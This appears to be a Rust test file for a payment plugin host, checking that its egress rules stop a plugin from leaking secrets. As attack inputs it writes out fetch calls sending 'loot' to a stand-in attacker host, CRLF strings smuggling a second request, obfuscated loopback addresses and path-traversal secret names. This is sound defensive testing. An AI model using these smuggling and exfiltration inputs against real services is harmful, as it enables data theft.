//! Every attempt to carry something out, twenty times and more: not one byte leaves, and nothing that a secret is made of
//! comes back into the plugin.

use std::sync::Arc;

use payhost_engine::egress::Recorded;
use payhost_engine::{EgressPolicy, Engine, Mapping, Phase, Plugin, Transport, WriteEvidence};

use crate::common::{API_TOKEN, CARD, PASSWORD, Try, assert_no_secret, behave, engine, plugin};
use crate::gateway::{Gateway, ORIGIN};

/// Runs of each attack.
const RUNS: usize = 20;

/// Where an attacker listens: whatever arrives there has got out.
struct Field {
    engine: Engine,
    plugin: Arc<Plugin>,
    gateway: Gateway,
    evil: Gateway,
}

impl Field {
    async fn new() -> Self {
        let engine = engine();
        let plugin = plugin(&engine).await;
        Self { engine, plugin, gateway: Gateway::start().await, evil: Gateway::named("evil.test").await }
    }

    /// The gateway is mapped and granted; the attacker's host is mapped too, so that only the rules stand in between.
    fn egress(&self) -> EgressPolicy {
        let mut egress = self.gateway.egress();
        for origin in ["https://evil.test", "https://other.test", "https://unwanted.test"] {
            let (connect, ca_pem) = (self.evil.address, Some(self.evil.ca_pem.clone()));
            egress.map.push(Mapping { origin: origin.parse().unwrap(), connect, ca_pem });
        }
        egress
    }

    /// Attacks [`RUNS`] times through `complete`; each is refused for this reason and nothing has left.
    async fn refused(&self, reason: &str, make: impl Fn() -> Try) {
        for run in 0..RUNS {
            let called = make().complete(&self.engine, &self.plugin).await;
            assert_no_secret(&serde_json::to_string(called.record()).unwrap());
            let phases: Vec<Phase> = called.evidence.exchanges().iter().map(|one| one.phase).collect();
            assert_eq!(phases, [Phase::Refused], "run {run}");
            assert_eq!(called.evidence.writes(), WriteEvidence::None);
            let said = called.result.unwrap();
            assert!(said.starts_with("refused: ") && said.contains(reason), "run {run}: {said}");
        }
        self.nothing_left();
    }

    fn nothing_left(&self) {
        assert_eq!((self.gateway.connections(), self.gateway.bytes()), (0, 0), "the gateway");
        assert_eq!((self.evil.connections(), self.evil.bytes()), (0, 0), "the attacker");
    }

    fn to(&self, url: &str) -> Try {
        behave("fetch").with("url", url).with("body", "loot").egress(self.egress())
    }
}

#[tokio::test]
async fn an_ungranted_host_hears_nothing() {
    let field = Field::new().await;
    field.refused("was not granted", || field.to("https://other.test/")).await;
    field.refused("not among the hosts", || field.to("https://evil.test/")).await;
    field
        .refused("not among the hosts", || field.to(&format!("https://{}.evil.test/", "x".repeat(63))))
        .await;
}

#[tokio::test]
async fn an_ip_literal_in_any_writing_hears_nothing() {
    let field = Field::new().await;
    let port = field.evil.address.port();
    for host in ["127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1", "0177.0.0.1", "127.1"] {
        let url = format!("https://{host}:{port}/");
        field.refused("an address in place of a host name", || field.to(&url)).await;
    }
}

#[tokio::test]
async fn a_private_address_behind_a_granted_name_hears_nothing() {
    let field = Field::new().await;
    let url = "https://localhost/";
    let egress = || EgressPolicy { granted: vec![url.trim_end_matches('/').parse().unwrap()], map: vec![] };
    field.refused("not on the public net", || field.to(url).egress(egress())).await;
}

#[tokio::test]
async fn a_redirect_leads_nowhere() {
    let field = Field::new().await;
    for run in 0..RUNS {
        let call = field.to(&format!("{ORIGIN}/redirect"));
        let called = call.complete(&field.engine, &field.plugin).await;
        assert_eq!(called.result.unwrap(), "302 ", "run {run}");
    }
    assert_eq!(field.gateway.requests().len(), RUNS, "each was sent once");
    assert_eq!((field.evil.connections(), field.evil.bytes()), (0, 0));
}

#[tokio::test]
async fn no_header_smuggles_a_second_request() {
    let field = Field::new().await;
    let pay = format!("{ORIGIN}/pay");
    for (header, reason) in [
        ("x=a\r\n\r\nPOST /loot HTTP/1.1\r\nhost: evil.test", "line break"),
        ("content-length=0", "is the host's"),
        ("transfer-encoding=chunked", "is the host's"),
        ("host=evil.test", "is the host's"),
        ("x\r\ny=1", "letters, digits and `-`"),
    ] {
        field.refused(reason, || field.to(&pay).with("header", header)).await;
    }
    let verb = "POST /loot HTTP/1.1\r\nhost: evil.test\r\n\r\nGET";
    field.refused("`GET` or `POST`", || field.to(&pay).with("verb", verb)).await;
    field.refused("percent-encoded", || field.to(&format!("{pay} HTTP/1.1\r\nx: y"))).await;
}

#[tokio::test]
async fn another_shops_secret_cannot_be_named() {
    let field = Field::new().await;
    let pay = format!("{ORIGIN}/pay");
    for name in ["other_shops_key", "shop_2/sign_key", "../sign_key", "SIGN_KEY", "sign_key\0", ""] {
        let call = || field.to(&pay).with("secret", name).with("place", "body");
        field.refused("has no secret", call).await;
    }
}

#[tokio::test]
async fn a_secret_does_not_go_where_it_is_not_declared() {
    let field = Field::new().await;
    let pay = format!("{ORIGIN}/pay");
    for (name, place) in [("sign_key", "body"), ("password", "header"), ("api_token", "body")] {
        let call = || field.to(&pay).with("secret", name).with("place", place);
        field.refused("may not go into", call).await;
    }
}

#[tokio::test]
async fn what_a_granted_host_echoes_comes_back_without_the_secrets() {
    let field = Field::new().await;
    let writings = [
        "plain",
        "base64",
        "base64-1",
        "base64-2",
        "base64url",
        "hex",
        "hex-upper",
        "percent",
        "form",
        "json",
        "quote",
        "component",
        "gson",
        "php",
        "json-twice",
        "html-hex",
        "html-decimal",
        "mime",
        "header",
    ];
    let sent = [
        ("header", "api_token", "plain", API_TOKEN),
        ("header", "api_token", "base64", API_TOKEN),
        ("body", "password", "plain", PASSWORD),
        ("body", "password", "form", PASSWORD),
        ("body", "card_number", "plain", CARD),
    ];
    let mut echoes = 0;
    for run in 0..RUNS {
        for (writing, (place, secret, encoding, value)) in
            writings.iter().flat_map(|writing| sent.iter().map(move |sent| (*writing, *sent)))
        {
            let call = field.to(&format!("{ORIGIN}/echo/{writing}"));
            let call = call.with("place", place).with("secret", secret).with("encoding", encoding);
            let called = call.complete(&field.engine, &field.plugin).await;
            let record = serde_json::to_string(called.record()).unwrap();
            let said = called.result.unwrap();
            assert_no_secret(&said);
            assert_no_secret(&record);
            assert!(said.contains("[secret]") || writing == "header", "run {run}, {writing}: {said}");
            let got = field.gateway.requests().pop().unwrap();
            assert!(got.contains(value) || encoding != "plain", "the gateway itself got it: {got}");
            echoes += 1;
        }
    }
    assert_eq!(echoes, RUNS * 95);
}

#[tokio::test]
async fn an_echo_that_was_blotted_runs_again_to_the_same_end() {
    let field = Field::new().await;
    let make = || {
        let call = field.to(&format!("{ORIGIN}/echo/plain"));
        call.with("place", "header").with("secret", "api_token")
    };
    let first = make().complete(&field.engine, &field.plugin).await;
    assert!(first.record().replayable, "the plugin saw what was kept");
    let mut again = make();
    again.setup.transport = Transport::Scripted(Arc::new(Recorded::new(first.record())));
    let again = again.complete(&field.engine, &field.plugin).await;
    assert_eq!(again.result.unwrap(), first.result.unwrap());
}

/// What a crypto behaviour says, [`RUNS`] times the same.
async fn said(field: &Field, behaviour: &str, secret: &str) -> String {
    let mut answers = Vec::new();
    for _ in 0..RUNS {
        let call = behave(behaviour).with("secret", secret).with("text", "00");
        let called = call.begin(&field.engine, &field.plugin).await;
        assert_no_secret(&serde_json::to_string(called.record()).unwrap());
        answers.push(called.result.unwrap());
    }
    field.nothing_left();
    answers.dedup();
    assert_eq!(answers.len(), 1, "the same question has the same answer");
    assert_no_secret(&answers[0]);
    answers.remove(0)
}

#[tokio::test]
async fn a_secret_is_never_plaintext() {
    let field = Field::new().await;
    for secret in ["sign_key", "seal_key", "open_key", "shared_iv", "api_token", "password"] {
        let answer = said(&field, "encrypt a secret", secret).await;
        assert!(answer.contains("NotDeclared"), "{secret}: {answer}");
    }
}

#[tokio::test]
async fn no_function_and_no_algorithm_gives_a_part_of_a_digest_or_of_a_secret() {
    let field = Field::new().await;
    // The contract has four functions, and none takes an offset or a length.
    let wit = include_str!("../../../../wit/imports.wit");
    let crypto = wit.split("interface crypto {").nth(1).unwrap().split("\n}").next().unwrap();
    let functions: Vec<&str> =
        crypto.lines().filter(|line| line.contains(": func(")).map(str::trim).collect();
    assert_eq!(functions.len(), 4, "{functions:?}");
    assert!(functions.iter().all(|line| !line.contains("u32") && !line.contains("u64")), "{functions:?}");
    // Algorithms that would cut or pass through are not known, and a name with a range is no name.
    for secret in ["sign_key", "seal_key", "card_number", "sign_key[0..1]", "sign_key:0:1"] {
        let answer = said(&field, "all crypto", secret).await;
        for line in answer.lines() {
            let refused =
                ["Unsupported", "NotDeclared", "MissingSecret"].iter().any(|word| line.contains(word));
            assert!(refused, "{secret}: {line}");
        }
    }
}

#[tokio::test]
async fn no_clock_moves_while_a_plugin_runs() {
    let field = Field::new().await;
    assert_eq!(said(&field, "timing", "").await, "readings=1 elapsed=0");
}
